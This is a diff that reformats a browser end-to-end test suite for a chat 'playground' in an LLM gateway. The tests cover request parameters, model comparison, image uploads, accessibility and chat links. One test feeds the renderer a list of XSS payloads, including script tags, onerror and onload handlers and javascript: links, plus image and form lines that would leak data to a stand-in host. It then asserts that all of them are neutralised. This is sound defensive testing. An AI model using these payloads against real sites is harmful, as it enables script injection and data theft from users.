@@ -28,7 +28,10 @@ beforeAll(async () => {
   site = Bun.serve({
     port: 0,
     hostname: "127.0.0.1",
-    fetch: () => new Response("<!doctype html><title>chat</title><p id=a></p><script>a.textContent = location.search</script>", { headers: { "content-type": "text/html" } }),
+    fetch: () =>
+      new Response("<!doctype html><title>chat</title><p id=a></p><script>a.textContent = location.search</script>", {
+        headers: { "content-type": "text/html" },
+      }),
   });
   weir = await startWeir();
   await weir.setOption("GroupRatio", { default: 1, vip: 2 });
@@ -89,7 +92,12 @@ describe.skipIf(noChromium)("the playground", () => {
     await page.keyboard.press("Enter");
     await done(page);
     await answers(page).locator("strong", { hasText: "hello" }).waitFor();
-    expect(lastBody()).toMatchObject({ model: "gpt-4o-mini", stream: true, temperature: 0, messages: [{ role: "user", content: "**hello** there" }] });
+    expect(lastBody()).toMatchObject({
+      model: "gpt-4o-mini",
+      stream: true,
+      temperature: 0,
+      messages: [{ role: "user", content: "**hello** there" }],
+    });
     expect(lastBody()).not.toHaveProperty("max_tokens");
     expect(lastBody()).not.toHaveProperty("group");
     const link = answers(page).getByRole("link", { name: /费用 \$0\.0/ });
@@ -107,7 +115,9 @@ describe.skipIf(noChromium)("the playground", () => {
     await page.getByRole("combobox", { name: "分组" }).click();
     await page.getByRole("option", { name: /^vip/ }).click();
     const slider = page.getByLabel("温度");
-    expect(await slider.evaluate((element: HTMLInputElement) => [element.min, element.max, element.step, element.value])).toEqual(["0", "1", "0.1", "0"]);
+    expect(
+      await slider.evaluate((element: HTMLInputElement) => [element.min, element.max, element.step, element.value]),
+    ).toEqual(["0", "1", "0.1", "0"]);
     await slider.focus();
     for (let i = 0; i < 7; i++) await page.keyboard.press("ArrowRight");
     await type(page.getByLabel("最大 token 数"), "64");
@@ -116,8 +126,13 @@ describe.skipIf(noChromium)("the playground", () => {
     await say(page, "one");
     await done(page);
     expect(lastBody()).toMatchObject({
-      model: "words:6", temperature: 0.7, max_tokens: 64,
-      messages: [{ role: "system", content: "be brief" }, { role: "user", content: "one" }],
+      model: "words:6",
+      temperature: 0.7,
+      max_tokens: 64,
+      messages: [
+        { role: "system", content: "be brief" },
+        { role: "user", content: "one" },
+      ],
     });
     expect((await weir.waitForLog((row) => row.user_id === user.id)).token_name).toBe("playground-vip");
     await page.reload();
@@ -186,7 +201,10 @@ describe.skipIf(noChromium)("the playground", () => {
     await choose(page, "tool-split");
     await say(page, "weather");
     await done(page);
-    await page.getByText(/^调用工具 \w+/).first().waitFor();
+    await page
+      .getByText(/^调用工具 \w+/)
+      .first()
+      .waitFor();
     expect(JSON.parse(await page.getByLabel("工具参数").first().innerText())).toBeObject();
   });
 
@@ -205,7 +223,9 @@ describe.skipIf(noChromium)("the playground", () => {
     upstream.journal.clear();
     await say(page, "again");
     await page.waitForFunction(() => document.querySelectorAll("article[data-state=complete]").length === 6);
-    const sent = upstream.journal.entries.map(({ body }) => JSON.parse(body) as { model: string; messages: { content: string }[] });
+    const sent = upstream.journal.entries.map(
+      ({ body }) => JSON.parse(body) as { model: string; messages: { content: string }[] },
+    );
     const spoken = (model: string) => sent.find((body) => body.model === model)?.messages[1]?.content;
     expect(spoken("gpt-4o-mini")).toContain("compare");
     expect(spoken("words:6")).not.toBe(spoken("gpt-4o-mini"));
@@ -228,7 +248,10 @@ describe.skipIf(noChromium)("the playground", () => {
     expect(lastBody().messages).toEqual([
       {
         role: "user",
-        content: [{ type: "text", text: "what is this" }, { type: "image_url", image_url: { url: expect.stringMatching(/^data:image\/jpeg;base64,/) } }],
+        content: [
+          { type: "text", text: "what is this" },
+          { type: "image_url", image_url: { url: expect.stringMatching(/^data:image\/jpeg;base64,/) } },
+        ],
       },
     ]);
   });
@@ -254,11 +277,25 @@ describe.skipIf(noChromium)("the playground", () => {
       void dialog.dismiss();
     });
     const payload = [
-      "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=2>", "<svg onload=window.pwned=3><animate onbegin=alert(1)></svg>",
-      "<iframe src=javascript:parent.pwned=4></iframe>", "[a](javascript:window.pwned=5)", "[b](JaVaScRiPt:alert(1))", "[c](data:text/html,<script>alert(1)</script>)",
-      "![d](https://leak.example/?q=secret)", "![e](javascript:alert(1))", "![f](data:image/svg+xml,<svg/onload=alert(1)>)", "<https://ok.example>",
-      "<a href=\"javascript:alert(1)\">g</a>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "[h](vbscript:msgbox)",
-      "<form action=https://leak.example><button>h</button></form>", "[i]: javascript:alert(1)", "[i]", "<style>*{display:none}</style>", "`<b>`",
+      "<script>window.pwned=1</script>",
+      "<img src=x onerror=window.pwned=2>",
+      "<svg onload=window.pwned=3><animate onbegin=alert(1)></svg>",
+      "<iframe src=javascript:parent.pwned=4></iframe>",
+      "[a](javascript:window.pwned=5)",
+      "[b](JaVaScRiPt:alert(1))",
+      "[c](data:text/html,<script>alert(1)</script>)",
+      "![d](https://leak.example/?q=secret)",
+      "![e](javascript:alert(1))",
+      "![f](data:image/svg+xml,<svg/onload=alert(1)>)",
+      "<https://ok.example>",
+      '<a href="javascript:alert(1)">g</a>',
+      "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+      "[h](vbscript:msgbox)",
+      "<form action=https://leak.example><button>h</button></form>",
+      "[i]: javascript:alert(1)",
+      "[i]",
+      "<style>*{display:none}</style>",
+      "`<b>`",
     ].join("\n\n");
     await say(page, payload);
     await done(page);
@@ -266,13 +303,16 @@ describe.skipIf(noChromium)("the playground", () => {
     await answer.getByText("<script>window.pwned=1</script>").waitFor();
     const found = await answer.evaluate((element) => ({
       odd: element.querySelectorAll("script, iframe, img, object, embed, form, style, math").length,
-      handlers: [...element.querySelectorAll("*")].filter((item) => [...item.attributes].some(({ name }) => name.startsWith("on"))).length,
+      handlers: [...element.querySelectorAll("*")].filter((item) =>
+        [...item.attributes].some(({ name }) => name.startsWith("on")),
+      ).length,
       links: [...element.querySelectorAll("a")].map((link) => link.getAttribute("href") ?? ""),
     }));
     expect(found.odd).toBe(0);
     expect(found.handlers).toBe(0);
     for (const link of found.links) expect(link).toMatch(/^(https?:\/\/|\/log\?)/);
-    for (const link of await answer.locator("a[target=_blank]").all()) expect(await link.getAttribute("rel")).toContain("noopener");
+    for (const link of await answer.locator("a[target=_blank]").all())
+      expect(await link.getAttribute("rel")).toContain("noopener");
     expect(await page.evaluate(() => Reflect.get(window, "pwned") as unknown)).toBeUndefined();
     expect(dialogs).toBe(0);
     expect(requests.filter((url) => !url.startsWith(weir.url) && !url.startsWith("data:"))).toEqual([]);
@@ -293,7 +333,10 @@ describe.skipIf(noChromium)("the playground", () => {
   for (const theme of ["light", "dark"] as const) {
     test(`it fits a phone and passes axe, ${theme}`, async () => {
       const { page, axe, screenshot } = await open("/playground", { viewport: "phone", theme });
-      await say(page, "# Title\n\nSome **words** and `code`:\n\n```ts\nconst a_rather_long_name = await somethingThatDoesNotFitIntoThreeHundredAndNinetyPixels();\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two");
+      await say(
+        page,
+        "# Title\n\nSome **words** and `code`:\n\n```ts\nconst a_rather_long_name = await somethingThatDoesNotFitIntoThreeHundredAndNinetyPixels();\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two",
+      );
       await done(page);
       await page.getByRole("link", { name: /费用/ }).waitFor();
       expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
@@ -306,12 +349,18 @@ describe.skipIf(noChromium)("the playground", () => {
     });
   }
 
-  for (const [language, theme] of [["zh", "light"], ["en", "dark"]] as const) {
+  for (const [language, theme] of [
+    ["zh", "light"],
+    ["en", "dark"],
+  ] as const) {
     test(`it passes axe on a desktop, ${language}, ${theme}`, async () => {
       const { page, axe, screenshot } = await open("/playground", { language, theme });
       await page.getByText("gpt-4o-mini").waitFor();
       await axe();
-      await paste(page.locator("form textarea"), "1. first\n2. second\n\n> quoted\n\n```py\nprint('x')\n```\n\n[link](https://example.com)");
+      await paste(
+        page.locator("form textarea"),
+        "1. first\n2. second\n\n> quoted\n\n```py\nprint('x')\n```\n\n[link](https://example.com)",
+      );
       await page.keyboard.press("Tab");
       await page.locator("form textarea").press("Enter");
       await done(page);
@@ -412,7 +461,11 @@ describe.skipIf(noChromium)("chat links", () => {
     await page.getByRole("link", { name: "Web" }).waitFor();
     await menu(page);
     const tab = context.waitForEvent("page");
-    await chooseFromSubmenu(page, page.getByRole("menuitem", { name: "聊天" }), page.getByRole("menuitem", { name: "Web" }));
+    await chooseFromSubmenu(
+      page,
+      page.getByRole("menuitem", { name: "聊天" }),
+      page.getByRole("menuitem", { name: "Web" }),
+    );
     await (await tab).waitForURL(`http://127.0.0.1:${site.port}/chat?k=${key}**`);
   });
 });
